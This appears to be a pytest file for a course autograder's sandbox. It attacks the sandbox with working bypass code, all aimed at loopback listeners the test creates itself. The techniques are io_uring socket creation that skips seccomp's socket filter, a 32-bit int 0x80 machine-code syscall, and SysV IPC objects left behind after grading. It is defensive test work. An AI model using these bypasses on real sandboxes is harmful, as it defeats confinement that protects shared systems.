"""Kernel features that go around the sandbox's filters, attacked as a student would, at both levels.

- io_uring creates sockets without the ``socket()`` system call (``IORING_OP_SOCKET``): a filter on
  ``socket`` alone leaves UDP to loopback and filesystem unix sockets open.
- SysV IPC objects belong to the kernel, not to a process: a segment made by student code outlives
  every process of the worker unless the sandbox has an IPC namespace, denies them, or removes them.

Each attack is a cell appended to the full-marks 01 solution; its code runs at load time (a class
body), and the solution's units must still grade as they do without it. What must hold is checked
by the test after grading: its listeners heard nothing, no IPC object of a worker uid is left.
Whatever ``doctor`` says is in force must be proven by a probe that tried the bypass.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from conftest import ROOT, SOLUTIONS, TEST_SECRET, code_cell, leases_held, require_bwrap, write_variant
from dlcourse.autograder.cases import COURSE
from dlcourse.autograder.cases.backprop import ASSIGNMENT as BACKPROP
from dlcourse.autograder.engine import ipc
from dlcourse.autograder.engine.case import Assignment
from dlcourse.autograder.engine.grade import Grader
from dlcourse.autograder.engine.pool import spawn
from dlcourse.autograder.engine.protections import protections
from dlcourse.autograder.engine.sandbox import Sandbox, UidLease

LEVELS = ["bwrap", "fallback"]
ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="a uid of its own per worker needs root")
QUICK_01 = Assignment("01_backprop", "01 without the MLP units",
                      tuple(c for c in BACKPROP.cases if c.unit not in ("mlp_loss_and_grads", "train_mlp")))

IO_URING_SOCKET = '''
import ctypes, mmap, socket, struct

def _uring_socket(domain, kind):
    """A socket made by io_uring (IORING_OP_SOCKET), without the socket() system call."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    params = ctypes.create_string_buffer(120)
    fd = libc.syscall(425, ctypes.c_uint(4), params)  # io_uring_setup
    if fd < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    sq_entries, cq_entries = struct.unpack_from("II", params, 0)
    sq = struct.unpack_from("7I", params, 40)  # head, tail, ring_mask, ring_entries, flags, dropped, array
    cq = struct.unpack_from("6I", params, 80)  # head, tail, ring_mask, ring_entries, overflow, cqes
    shared = dict(flags=mmap.MAP_SHARED, prot=mmap.PROT_READ | mmap.PROT_WRITE)
    sq_ring = mmap.mmap(fd, sq[6] + 4 * sq_entries, offset=0, **shared)
    cq_ring = mmap.mmap(fd, cq[5] + 16 * cq_entries, offset=0x8000000, **shared)
    sqes = mmap.mmap(fd, 64 * sq_entries, offset=0x10000000, **shared)
    sqes[0:64] = struct.pack("BBHiQQIIQHHiQQ", 45, 0, 0, domain, kind, 0, 0, 0, 1, 0, 0, 0, 0, 0)
    tail = struct.unpack_from("I", sq_ring, sq[1])[0]
    struct.pack_into("I", sq_ring, sq[6] + 4 * (tail & sq[2]), 0)
    struct.pack_into("I", sq_ring, sq[1], tail + 1)
    if libc.syscall(426, fd, 1, 1, 1, None, 0) < 0:  # io_uring_enter: submit one, wait for one
        raise OSError(ctypes.get_errno(), "io_uring_enter")
    head = struct.unpack_from("I", cq_ring, cq[0])[0]
    result = struct.unpack_from("i", cq_ring, cq[5] + 16 * (head & cq[2]) + 8)[0]
    if result < 0:
        raise OSError(-result, "IORING_OP_SOCKET")
    return socket.socket(fileno=result)

class _Escape:  # runs when the notebook loads
    outcomes = []
    for _domain, _target in ((2, ("127.0.0.1", {udp_port})), (1, {unix_path!r})):
        try:
            _sock = _uring_socket(_domain, 2 if _domain == 2 else 1)
            _sock.connect(_target)
            _sock.send(b"ESCAPED")
            outcomes.append("sent")
        except OSError as error:
            outcomes.append(repr(error))
'''

SYSV_SEGMENT = '''
import ctypes

class _Persist:  # runs when the notebook loads
    _libc = ctypes.CDLL(None, use_errno=True)
    IPC_CREAT, IPC_PRIVATE = 0o1000, 0
    made = (_libc.shmget(IPC_PRIVATE, ctypes.c_size_t(64 * 1024 * 1024), IPC_CREAT | 0o666),
            _libc.semget(IPC_PRIVATE, 1, IPC_CREAT | 0o666),
            _libc.msgget(IPC_PRIVATE, IPC_CREAT | 0o666))
'''


I386_SOCKET = '''
import ctypes, mmap, socket

def _i386_socket():
    """socket(AF_INET, SOCK_DGRAM) through the 32-bit ABI (int 0x80, call 359): another number table."""
    code = bytes([0x53, 0xB8, 0x67, 0x01, 0, 0, 0xBB, 2, 0, 0, 0, 0xB9, 2, 0, 0, 0, 0xBA, 0, 0, 0, 0,
                  0xCD, 0x80, 0x5B, 0xC3])  # push rbx; eax=359 ebx=2 ecx=2 edx=0; int 0x80; pop rbx; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    fd = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if fd < 0:
        raise OSError(-fd, "socket through int 0x80")
    return socket.socket(fileno=fd)

def binary_crossentropy(logits, y):
    sock = _i386_socket()
    sock.connect(("127.0.0.1", {udp_port}))
    sock.send(b"ESCAPED")
    raise RuntimeError("SENT through int 0x80")
'''
X86_64 = pytest.mark.skipif(os.uname().machine != "x86_64", reason="the 32-bit ABI attack is x86 machine code")



@pytest.fixture
def listeners():
    """A UDP socket on 127.0.0.1 and a unix socket in a world-writable folder, both waiting for a
    student's datagram or connection; yields ``(udp, unix, unix_path)``."""
    folder = Path(tempfile.mkdtemp(prefix="dlcourse-listen-", dir="/var/tmp"))
    os.chmod(folder, 0o1777)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    path = folder / "grader.sock"
    unix.bind(str(path))
    os.chmod(path, 0o777)
    unix.listen(4)
    for sock in (udp, unix):
        sock.setblocking(False)
    yield udp, unix, str(path)
    udp.close()
    unix.close()
    shutil.rmtree(folder, ignore_errors=True)


def heard(udp: socket.socket, unix: socket.socket) -> list[str]:
    """What reached the listeners: datagrams and connections waiting to be read."""
    found = []
    try:
        found.append(f"UDP datagram {udp.recv(64)!r}")
    except BlockingIOError:
        pass
    try:
        connection, _ = unix.accept()
        found.append("unix connection")
        connection.close()
    except BlockingIOError:
        pass
    return found


def grade_with(tmp_path: Path, level: str, code: str):
    """Grade the 01 solution with ``code`` appended as a cell; every unit must still pass."""
    grader = Grader(COURSE, secret=TEST_SECRET, max_timeout=20.0, isolation=level)
    notebook = write_variant(tmp_path, SOLUTIONS / "01_backprop.ipynb", lambda nb: nb["cells"].append(code_cell(code)))
    result = grader.grade(notebook, QUICK_01)
    assert result.results and all(r.verdict.passed for r in result.results), \
        [r.verdict.message for r in result.results if not r.verdict.passed]
    return result


def test_the_io_uring_attack_reaches_both_listeners_outside_the_sandbox(listeners):
    """The attack is real: run unconfined, it gets a datagram and a connection through."""
    udp, unix, path = listeners
    namespace: dict = {}
    exec(compile(IO_URING_SOCKET.format(udp_port=udp.getsockname()[1], unix_path=path), "attack", "exec"), namespace)
    assert namespace["_Escape"].outcomes == ["sent", "sent"]
    assert heard(udp, unix) == ["UDP datagram b'ESCAPED'", "unix connection"]


def test_io_uring_cannot_make_a_socket_from_the_sandbox(tmp_path, level, listeners):
    udp, unix, path = listeners
    grade_with(tmp_path, level, IO_URING_SOCKET.format(udp_port=udp.getsockname()[1], unix_path=path))
    assert heard(udp, unix) == [], "student code reached the grader's machine through io_uring"


@X86_64
def test_the_i386_attack_reaches_the_listener_outside_the_sandbox(listeners):
    """The attack is real where the kernel runs 32-bit code (skipped where it does not)."""
    udp, unix, _ = listeners
    namespace: dict = {}
    exec(compile(I386_SOCKET.format(udp_port=udp.getsockname()[1]), "attack", "exec"), namespace)
    pid = os.fork()
    if pid == 0:  # a child: a kernel without 32-bit support kills it with SIGSEGV
        try:
            namespace["binary_crossentropy"](None, None)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    found = heard(udp, unix)
    if not found:
        pytest.skip("this kernel does not run 32-bit system calls")
    assert found == ["UDP datagram b'ESCAPED'"]


@X86_64
def test_a_system_call_of_another_abi_kills_the_worker(tmp_path, level, listeners):
    """libseccomp matches native numbers only: a 32-bit ``socket`` must not pass the filter."""
    udp, unix, _ = listeners
    grader = Grader(COURSE, secret=TEST_SECRET, max_timeout=20.0, isolation=level)
    code = I386_SOCKET.format(udp_port=udp.getsockname()[1])
    notebook = write_variant(tmp_path, SOLUTIONS / "01_backprop.ipynb", lambda nb: nb["cells"].append(code_cell(code)))
    result = grader.grade(notebook, QUICK_01)
    target = [r for r in result.results if r.case.unit == "binary_crossentropy"]
    assert target and not any(r.verdict.passed for r in target)
    assert all(r.verdict.passed for r in result.results if r.case.unit != "binary_crossentropy")
    assert not any("SENT" in r.verdict.message for r in target), [r.verdict.message for r in target]
    assert heard(udp, unix) == []


@ROOT_ONLY
def test_a_sysv_shared_memory_segment_does_not_outlive_grading(tmp_path, level):
    before = set(UidLease.used)
    try:
        grade_with(tmp_path, level, SYSV_SEGMENT)
        leased = UidLease.used - before or UidLease.used
        assert leased, "grading leased no uid"
        with leases_held(leased):
            assert [item for uid in leased for item in ipc.objects_of(uid)] == []
    finally:
        for uid in UidLease.used:
            ipc.remove_objects_of(uid)


@ROOT_ONLY
def test_the_sweep_removes_every_ipc_object_of_a_worker_uid():
    """Where no filter denies SysV IPC (no libseccomp), what the worker's uid made goes at the sweep."""
    worker = spawn(Sandbox(isolation="fallback"))
    uid = worker.lease.uid
    try:
        made = subprocess.run(
            ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "/usr/bin/python3", "-I", "-c",
             "import ctypes; c = ctypes.CDLL(None); print(c.shmget(0, 1 << 20, 0o1666), c.semget(0, 2, 0o1600), "
             "c.msgget(0, 0o1600))"], capture_output=True, text=True, timeout=30, check=True)
        assert "-1" not in made.stdout.split(), made.stdout
        assert sorted(item.kind for item in ipc.objects_of(uid)) == ["msg", "sem", "shm"]
        worker.kill()
        assert ipc.objects_of(uid) == []
    finally:
        ipc.remove_objects_of(uid)


# ----------------------------------------------------------------------------- the probe's honesty

PROVE = """
import json, sys
sys.path.insert(0, {sandboxed!r})
import confine
applied = confine.apply({read!r}, {write!r}, sockets={sockets!r}) if {apply!r} else {{}}
print(json.dumps(confine.prove(applied, canary={canary!r}, writable={writable!r})))
"""


def prove_in_a_process(tmp_path: Path, apply: bool, sockets: bool = False) -> dict[str, str]:
    """The probe's answer in a fresh process that confined itself as asked (or not at all)."""
    targets = Path(tempfile.mkdtemp(prefix="dlcourse-canary-", dir="/var/tmp"))
    try:
        os.chmod(targets, 0o755)
        (targets / "canary").write_text("the grader's")
        (targets / "writable").mkdir(mode=0o1777)
        read = ["/usr", "/lib", "/lib64", "/etc", "/proc", "/dev", sys.base_prefix, sys.prefix, str(ROOT)]
        script = PROVE.format(sandboxed=str(ROOT / "autograder" / "engine" / "sandboxed"), read=read,
                              write=[str(tmp_path)], sockets=sockets, apply=apply, canary=str(targets / "canary"),
                              writable=str(targets / "writable"))
        run = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
        assert run.returncode == 0, run.stderr
        return json.loads(run.stdout)
    finally:
        shutil.rmtree(targets, ignore_errors=True)


def in_force(layers: dict[str, str]) -> dict[str, bool]:
    found = protections(Sandbox(isolation="fallback"), layers)
    return {item.name: item.active for item in found}


def test_the_probe_proves_each_layer_it_applied(tmp_path):
    found = in_force(prove_in_a_process(tmp_path, apply=True))
    assert found["seccomp: no sockets, io_uring or SysV IPC"] and found["Landlock: files confined"], found
    assert found["no_new_privs"]


def test_the_probe_reports_seccomp_missing_when_it_was_not_applied(tmp_path):
    layers = prove_in_a_process(tmp_path, apply=True, sockets=True)
    found = in_force(layers)
    assert not found["seccomp: no sockets, io_uring or SysV IPC"], layers
    assert found["Landlock: files confined"], layers
    assert "socket" in layers["seccomp"] and "io_uring" in layers["seccomp"], layers


def test_the_probe_reports_nothing_in_force_in_an_unconfined_process(tmp_path):
    layers = prove_in_a_process(tmp_path, apply=False)
    found = in_force(layers)
    for name in ("no_new_privs", "seccomp: no sockets, io_uring or SysV IPC", "Landlock: files confined"):
        assert not found[name], layers
    assert "reading a file outside the read list" in layers["landlock"], layers


@pytest.mark.parametrize("isolation", LEVELS)
def test_doctor_says_in_force_only_what_a_grading_worker_proved(isolation):
    """The probe worker is started as a grading worker; at both levels every layer holds here."""
    if isolation == "bwrap":
        require_bwrap()
    found = {item.name: item for item in protections(Sandbox(isolation=isolation))}
    for name in ("no_new_privs", "seccomp: no sockets, io_uring or SysV IPC", "Landlock: files confined"):
        assert found[name].active, found[name]
        assert "proven" in found[name].detail or "blocked" in found[name].detail, found[name]
